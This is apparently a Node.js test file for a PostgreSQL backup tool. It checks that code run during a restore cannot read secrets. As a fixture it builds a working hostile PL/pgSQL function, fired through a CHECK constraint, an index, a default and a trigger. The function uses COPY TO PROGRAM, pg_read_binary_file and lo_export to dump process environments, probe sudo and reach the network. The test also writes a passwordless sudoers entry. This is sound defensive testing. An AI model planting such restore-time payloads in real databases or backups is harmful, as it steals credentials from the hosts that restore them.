// Restored code cannot reach a secret (issue 24, item 2). A backup whose restored code runs as
// superuser during the restore — a CHECK-constraint function, an index expression, a column
// default and a trigger (fired by a materialized view's refresh) — tries `COPY … TO PROGRAM`
// (env, every /proc/<pid>/environ it can read, sudo), `pg_read_binary_file('/proc/<pid>/environ')`
// of every process and `lo_export`. The CLI drill and `verify --level schema` run as an
// unprivileged OS user with passwordless sudo (as on GitHub-hosted runners) and secrets in their
// environment; the attack's marker files prove it ran, and no secret appears in anything it wrote.
// Without sudo: refused in one line (exit 2); with --allow-same-os-user: runs, environment scrubbed.
// As root: the cluster runs as pg-backup-drill, not postgres.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmod, chown, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { createDatabase, dbUrl, dumpWithCli, need, root, run, sql } from '../helpers.ts';
import { leftoverMark, markedProcesses } from '../infra/leftovers.ts';

const hex = randomBytes(4).toString('hex');
const sudoer = `pgbs${hex}`;
const plainUser = `pgbn${hex}`;
const sudoersFile = `/etc/sudoers.d/${sudoer}`;
let secrets: Record<string, string>;
let base: string;
let marks: string;
let db: string;
let customFrom: string;
let plainFrom: string;

interface TestUser {
  name: string;
  uid: number;
  gid: number;
}
const users: Record<string, TestUser> = {};

async function addUser(name: string): Promise<TestUser> {
  const r = await run('useradd', ['--system', '--user-group', '--no-create-home', '--home-dir', '/nonexistent', '--shell', '/usr/sbin/nologin', name]);
  assert.equal(r.code, 0, r.stderr);
  const id = await run('id', [name]);
  return { name, uid: Number(/uid=(\d+)/.exec(id.stdout)![1]), gid: Number(/gid=(\d+)/.exec(id.stdout)![1]) };
}

/** Runs the CLI as `user` (setpriv: its uid, gid and groups) with exactly `env` plus PATH. */
function cliAs(user: TestUser | undefined, args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  const node = process.execPath;
  const cmd = user ? 'setpriv' : node;
  const argv = [...(user ? ['--reuid', String(user.uid), '--regid', String(user.gid), '--init-groups', '--', node] : []), path.join(root, 'bin/pg-backup.js'), ...args];
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, argv, { cwd: '/', env: { PATH: process.env.PATH!, HOME: base, ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code: code ?? 1, stdout, stderr }));
  });
}

/** A file:// bucket holding a copy of `from`, owned by `user` (the drill writes its log there). */
async function bucketFor(from: string, user: TestUser | undefined, label: string): Promise<string> {
  const dir = await mkdtemp(path.join(base, `bucket-${label}-`));
  await run('cp', ['-a', `${fileURLToPath(from)}/.`, dir]);
  if (user) await run('chown', ['-R', `${user.uid}:${user.gid}`, dir]);
  return `file://${dir}`;
}

/** A work dir owned by `user`, traversable by the cluster user. */
async function workDirFor(user: TestUser | undefined, label: string): Promise<string> {
  const dir = await mkdtemp(path.join(base, `work-${label}-`));
  await chmod(dir, 0o755);
  if (user) await chown(dir, user.uid, user.gid);
  return dir;
}

/** The marker directory's files for one run (prefix `tag`), name → content. */
async function markerFiles(tag: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  for (const f of await readdir(marks)) if (f.startsWith(`${tag}-`)) files.set(f, await readFile(path.join(marks, f), 'latin1'));
  return files;
}

/** Every file the cluster user owns under the world-writable places (and the marker dir): names of those holding a secret. */
async function secretsInClusterUserFiles(): Promise<string[]> {
  const found = await run('find', [marks, '/tmp', '/var/tmp', '/dev/shm', '-xdev', '-user', 'pg-backup-drill', '-type', 'f', '-size', '-20M']);
  const leaks: string[] = [];
  for (const file of found.stdout.split('\n').filter(Boolean)) {
    const text = await readFile(file, 'latin1').catch(() => '');
    for (const [k, v] of Object.entries(secrets)) if (text.includes(v)) leaks.push(`${file}: ${k}`);
  }
  return leaks;
}

function hasSecret(text: string): string[] {
  return Object.entries(secrets).filter(([, v]) => text.includes(v)).map(([k]) => k);
}

before(async () => {
  assert.equal(process.getuid?.(), 0, 'this test creates OS users and a sudoers file: run it as root');
  const key = await run('age-keygen', []);
  assert.equal(key.code, 0, key.stderr);
  secrets = {
    AWS_SECRET_ACCESS_KEY: `awsSecret${randomBytes(12).toString('hex')}`,
    GITHUB_TOKEN: `ghp_${randomBytes(16).toString('hex')}`,
    PG_BACKUP_AGE_IDENTITY: /AGE-SECRET-KEY-\S+/.exec(key.stdout)![0],
  };
  base = await mkdtemp(path.join(os.tmpdir(), 'pgb-iso-'));
  await chmod(base, 0o755);
  marks = await mkdtemp(path.join(os.tmpdir(), 'pgb-iso-marks-'));
  await chmod(marks, 0o1777);
  users.sudoer = await addUser(sudoer);
  users.plain = await addUser(plainUser);
  await writeFile(sudoersFile, `${sudoer} ALL=(ALL:ALL) NOPASSWD: ALL\n`, { mode: 0o440 });

  // The attack: runs only in a throwaway cluster (the data directory's name), as superuser.
  db = await createDatabase('isoattack', false);
  await sql(db, `
CREATE FUNCTION attack(tag text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
  p text;
  stolen text := '';
  lo oid;
  out text := '${marks}/' || current_setting('pgb.run', true) || '-' || tag;
BEGIN
  IF current_setting('data_directory') NOT LIKE '%pg-backup-%' OR NOT (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN RETURN true; END IF;
  -- The program reads its input first: one that exits before COPY writes its row fails the COPY (EPIPE).
  EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', format(
    'cat > /dev/null; echo ran > %1$s.marker; env > %1$s.env; cat /proc/[0-9]*/environ > %1$s.proc 2>/dev/null; id > %1$s.id; if sudo -n true 2>/dev/null; then echo SUDO-WORKS > %1$s.sudo; fi; curl -s -o /dev/null -w %%{http_code} --max-time 3 ${need('PGB_TEST_S3_ENDPOINT')}/ > %1$s.net; true', out));
  FOR p IN SELECT d FROM pg_ls_dir('/proc') d WHERE d ~ '^[0-9]+$' LOOP
    BEGIN
      stolen := stolen || encode(pg_read_binary_file('/proc/' || p || '/environ'), 'escape') || E'\\n';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  EXECUTE format('COPY (SELECT %L) TO %L', 'readfile ran' || E'\\n' || stolen, out || '.readfile');
  lo := lo_from_bytea(0, convert_to('lo ran' || E'\\n' || stolen, 'UTF8'));
  PERFORM lo_export(lo, out || '.lo');
  PERFORM lo_unlink(lo);
  RETURN true;
END $f$;
CREATE FUNCTION idx_attack(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.attack('index'); RETURN i; END $f$;
CREATE FUNCTION def_attack() RETURNS text LANGUAGE plpgsql VOLATILE AS $f$ BEGIN PERFORM public.attack('default'); RETURN 'd'; END $f$;
CREATE FUNCTION trg_attack() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.attack('trigger'); RETURN NEW; END $f$;
CREATE TABLE victims (id int PRIMARY KEY, note text, CHECK (public.attack('check')));
INSERT INTO victims SELECT g, 'row ' || g FROM generate_series(1, 3) g;
CREATE INDEX victims_attack ON victims (idx_attack(id));
CREATE TABLE poked (id serial PRIMARY KEY, note text DEFAULT def_attack());
CREATE TRIGGER poked_attack BEFORE INSERT ON poked FOR EACH ROW EXECUTE FUNCTION trg_attack();
-- The refresh at the end of a restore inserts a row (default + trigger fire) and takes it back.
CREATE FUNCTION poke() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$ DECLARE n int; BEGIN INSERT INTO public.poked DEFAULT VALUES RETURNING id INTO n; DELETE FROM public.poked WHERE id = n; RETURN 1; END $f$;
CREATE MATERIALIZED VIEW poke_view AS SELECT poke() AS x;
`);
  // Each run's marker files carry its own prefix: the restored database's setting pgb.run.
  customFrom = `file://${await mkdtemp(path.join(base, 'src-custom-'))}`;
  plainFrom = `file://${await mkdtemp(path.join(base, 'src-plain-'))}`;
  await dumpWithCli(db, customFrom);
  await dumpWithCli(db, plainFrom, ['--format', 'plain']);
}, { timeout: 180_000 });

after(async () => {
  await rm(sudoersFile, { force: true });
  for (const u of Object.values(users)) await run('userdel', [u.name]);
  await rm(base, { recursive: true, force: true });
  await rm(marks, { recursive: true, force: true });
  if (db) await sql('postgres', `DROP DATABASE IF EXISTS "${db}"`);
});

/**
 * Sets the run's tag into the restored database: `ALTER DATABASE … SET pgb.run` cannot travel
 * in a dump of the database alone, so the tag rides in the backup: a fresh dump per tag would
 * be slow; instead the attack reads pgb.run, given to the restore through PGOPTIONS.
 */
function tagEnv(tag: string): Record<string, string> {
  return { PGOPTIONS: `-c pgb.run=${tag}` };
}

describe('restored code cannot reach a secret', () => {
  it('drill as an unprivileged user with passwordless sudo: the cluster runs as pg-backup-drill, the attack runs and finds no secret', { timeout: 180_000 }, async () => {
    const user = users.sudoer!;
    const from = await bucketFor(customFrom, user, 'sudo');
    const work = await workDirFor(user, 'sudo');
    const r = await cliAs(user, ['drill', '--from', from, '--work-dir', work, '--json'], { ...secrets, ...tagEnv('sudodrill') });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /throwaway cluster runs as OS user pg-backup-drill \(uid \d+, through sudo\), environment scrubbed, no network/);
    assert.match(r.stderr, /restore drill OK/);
    const files = await markerFiles('sudodrill');
    for (const tag of ['check', 'index', 'default', 'trigger']) {
      assert.equal(files.get(`sudodrill-${tag}.marker`)?.trim(), 'ran', `the ${tag} attack ran (files: ${[...files.keys()].join(', ')})`);
    }
    assert.match(files.get('sudodrill-check.readfile') ?? '', /^readfile ran/, 'pg_read_binary_file attack ran');
    assert.match(files.get('sudodrill-check.lo') ?? '', /^lo ran/, 'lo_export attack ran');
    assert.match(files.get('sudodrill-check.id')!, /uid=\d+\(pg-backup-drill\)/);
    assert.doesNotMatch(files.get('sudodrill-check.id')!, /\bsudo\b|\(root\)|\(postgres\)/);
    assert.equal(files.has('sudodrill-check.sudo'), false, 'the cluster user has no sudo');
    assert.equal(files.get('sudodrill-check.net'), '000', 'no network: the S3 endpoint on 127.0.0.1 is out of reach');
    for (const [name, text] of files) assert.deepEqual(hasSecret(text), [], `${name} holds no secret`);
    assert.deepEqual(await secretsInClusterUserFiles(), []);
    // The drill log archived in the bucket names the protection too.
    const logs = (await run('find', [fileURLToPath(from), '-name', '*.log'])).stdout.split('\n').filter(Boolean);
    assert.ok(logs.length > 0);
    assert.match(await readFile(logs[0]!, 'utf8'), /throwaway cluster runs as OS user pg-backup-drill/);
    assert.deepEqual(await readdir(work), [], 'the cluster and the download removed');
  });

  it('verify --level schema of a plain backup as that user: the replay\'s code runs as pg-backup-drill and finds no secret', { timeout: 180_000 }, async () => {
    const user = users.sudoer!;
    const from = await bucketFor(plainFrom, user, 'sudoverify');
    const work = await workDirFor(user, 'sudoverify');
    const r = await cliAs(user, ['verify', '--from', from, '--level', 'schema', '--work-dir', work, '--json'], { ...secrets, ...tagEnv('sudoverify') });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /throwaway cluster runs as OS user pg-backup-drill \(uid \d+, through sudo\), environment scrubbed/);
    const files = await markerFiles('sudoverify');
    assert.equal(files.get('sudoverify-check.marker')?.trim(), 'ran', `the attack ran (files: ${[...files.keys()].join(', ')})`);
    assert.match(files.get('sudoverify-check.id')!, /uid=\d+\(pg-backup-drill\)/);
    for (const [name, text] of files) assert.deepEqual(hasSecret(text), [], `${name} holds no secret`);
    assert.deepEqual(await secretsInClusterUserFiles(), []);
    assert.deepEqual(await readdir(work), []);
  });

  it('without root or sudo: refused before anything starts, one line, exit 2', { timeout: 60_000 }, async () => {
    const user = users.plain!;
    const from = await bucketFor(customFrom, user, 'plain');
    const work = await workDirFor(user, 'plain');
    for (const args of [['drill', '--from', from, '--work-dir', work], ['verify', '--from', from, '--level', 'schema', '--work-dir', work]]) {
      const r = await cliAs(user, args, { ...secrets, ...tagEnv('refused') });
      assert.equal(r.code, 2, r.stderr);
      const lines = r.stderr.trim().split('\n');
      assert.equal(lines.length, 1, r.stderr);
      assert.match(lines[0]!, new RegExp(`refusing to start a throwaway PostgreSQL as your own OS user ${plainUser}: .*could read this process's secrets.*passwordless sudo.*--allow-same-os-user`));
      assert.deepEqual(hasSecret(r.stderr), []);
    }
    // A dump that would verify at level schema is refused the same way, before anything is dumped.
    const dumpTo = await workDirFor(user, 'plain-dump');
    const d = await cliAs(user, ['dump', '--to', `file://${dumpTo}`, '--verify', 'schema'], { ...secrets, DATABASE_URL: dbUrl(db) });
    assert.equal(d.code, 2, d.stderr);
    assert.equal(d.stderr.trim().split('\n').length, 1, d.stderr);
    assert.match(d.stderr, new RegExp(`refusing to start a throwaway PostgreSQL as your own OS user ${plainUser}: .*--allow-same-os-user`));
    assert.deepEqual(await readdir(dumpTo), [], 'nothing written to the bucket');
    assert.deepEqual(await readdir(work), [], 'nothing started');
    assert.deepEqual([...(await markerFiles('refused')).keys()], []);
    // Only the drill logs: nothing else written to the bucket.
    assert.deepEqual((await run('find', [fileURLToPath(from), '-path', '*drills*'])).stdout.trim(), '');
  });

  it('with --allow-same-os-user: runs as that user, the server\'s environment scrubbed, the drill log says the protection is reduced', { timeout: 180_000 }, async () => {
    const user = users.plain!;
    const from = await bucketFor(customFrom, user, 'allow');
    const work = await workDirFor(user, 'allow');
    const r = await cliAs(user, ['drill', '--from', from, '--work-dir', work, '--allow-same-os-user', '--json'], { ...secrets, ...tagEnv('allow') });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, new RegExp(`throwaway cluster runs as your own OS user ${plainUser} \\(uid ${user.uid}, --allow-same-os-user\\), environment scrubbed; protection reduced`));
    const files = await markerFiles('allow');
    assert.equal(files.get('allow-check.marker')?.trim(), 'ran');
    assert.match(files.get('allow-check.id')!, new RegExp(`uid=${user.uid}\\(${plainUser}\\)`));
    assert.deepEqual(hasSecret(files.get('allow-check.env')!), [], "the server's environment holds no secret");
    // The control for the network check of the other cases: the same probe reaches the S3 endpoint here.
    assert.match(files.get('allow-check.net') ?? '', /^[1-5]\d\d$/, 'the probe reaches the network without a namespace');
    // Why it is reduced: the same user reads pg-backup's own /proc/<pid>/environ.
    assert.deepEqual(hasSecret(files.get('allow-check.proc') ?? ''), Object.keys(secrets), 'as the same OS user, the secrets are within reach (the reason for the refusal)');
    assert.deepEqual(await readdir(work), []);
    // The same consent lets a dump verify at level schema.
    const dumpTo = await workDirFor(user, 'allow-dump');
    const d = await cliAs(user, ['dump', '--to', `file://${dumpTo}`, '--verify', 'schema', '--allow-same-os-user', '--work-dir', work], { ...secrets, ...tagEnv('allowdump'), DATABASE_URL: dbUrl(db) });
    assert.equal(d.code, 0, d.stderr);
    assert.match(d.stderr, /protection reduced/);
    assert.notDeepEqual(await readdir(dumpTo), [], 'the backup was written');
  });

  for (const [signal, code, cue] of [['SIGINT', 130, /\binitdb\b/], ['SIGTERM', 143, /row counts: /]] as const) {
    it(`${signal} ${code === 130 ? 'during initdb' : 'during the checks'} of a drill through sudo: exit ${code}, no process of the cluster user left, nothing left in the work dir`, { timeout: 180_000 }, async () => {
      const user = users.sudoer!;
      const from = await bucketFor(customFrom, user, `sig${code}`);
      const work = await workDirFor(user, `sig${code}`);
      const smoke = path.join(work, 'smoke.sql');
      await writeFile(smoke, '-- expect: ok\nSELECT pg_sleep(60);\n', { mode: 0o644 });
      const { mark, env: markEnv } = leftoverMark();
      const child = spawn('setpriv', ['--reuid', String(user.uid), '--regid', String(user.gid), '--init-groups', '--', process.execPath, path.join(root, 'bin/pg-backup.js'), 'drill', '--from', from, '--work-dir', work, '--smoke-sql', smoke], {
        cwd: '/',
        env: { PATH: process.env.PATH!, HOME: base, ...secrets, ...tagEnv(`sig${code}`), ...markEnv },
      });
      let stderr = '';
      child.stderr.on('data', (d) => (stderr += d));
      const exited = new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
      const end = Date.now() + 120_000;
      // initdb runs ~1 s (a process scan sees it); the checks wait on the 60 s smoke query.
      const seen = async () => (signal === 'SIGINT' ? (await markedProcesses(mark)).some((p) => cue.test(p)) : cue.test(stderr));
      while (!(await seen()) && Date.now() < end && child.exitCode === null) await new Promise((r) => setTimeout(r, 20));
      // setpriv execs node: the signal reaches pg-backup itself.
      child.kill(signal);
      assert.equal(await exited, code, stderr);
      assert.match(stderr, new RegExp(`received ${signal}: cancelling and cleaning up`));
      assert.deepEqual(await markedProcesses(mark), [], 'no initdb, pg_ctl, postgres or sudo process left');
      assert.deepEqual((await readdir(work)).filter((n) => n !== 'smoke.sql'), [], 'the cluster (the cluster user\'s files) and the download removed');
    });
  }

  it('the demo without root or sudo proceeds, saying why: it restores only the data it made', { timeout: 240_000 }, async () => {
    const user = users.plain!;
    const bucket = await mkdtemp(path.join(base, 'bucket-demo-'));
    await chown(bucket, user.uid, user.gid);
    const r = await cliAs(user, ['demo', '--bucket', `file://${bucket}`], { ...secrets, PG_BACKUP_WORK_DIR: await workDirFor(user, 'demo') });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, new RegExp(`throwaway cluster runs as your own OS user ${plainUser} \\(uid ${user.uid}, the demo restores only the sample data it made itself\\), environment scrubbed`));
    assert.match(r.stdout, /demo OK/);
    assert.ok((r.stderr.match(/the demo restores only the sample data it made itself/g) ?? []).length >= 2, 'the demo\'s source cluster and its drill say so');
    assert.doesNotMatch(r.stderr, /--allow-same-os-user\)/);
  });

  it('as root: the cluster runs as pg-backup-drill, not postgres; no secret reached', { timeout: 180_000 }, async () => {
    const from = await bucketFor(customFrom, undefined, 'root');
    const work = await workDirFor(undefined, 'root');
    const r = await cliAs(undefined, ['drill', '--from', from, '--work-dir', work, '--json'], { ...secrets, ...tagEnv('root') });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /throwaway cluster runs as OS user pg-backup-drill \(uid \d+\), environment scrubbed, no network/);
    const files = await markerFiles('root');
    assert.equal(files.get('root-check.net'), '000', 'no network');
    assert.equal(files.get('root-check.marker')?.trim(), 'ran');
    assert.match(files.get('root-check.id')!, /uid=\d+\(pg-backup-drill\) gid=\d+\(pg-backup-drill\) groups=\d+\(pg-backup-drill\)$/m);
    for (const [name, text] of files) assert.deepEqual(hasSecret(text), [], `${name} holds no secret`);
    assert.deepEqual(await readdir(work), []);
  });
});
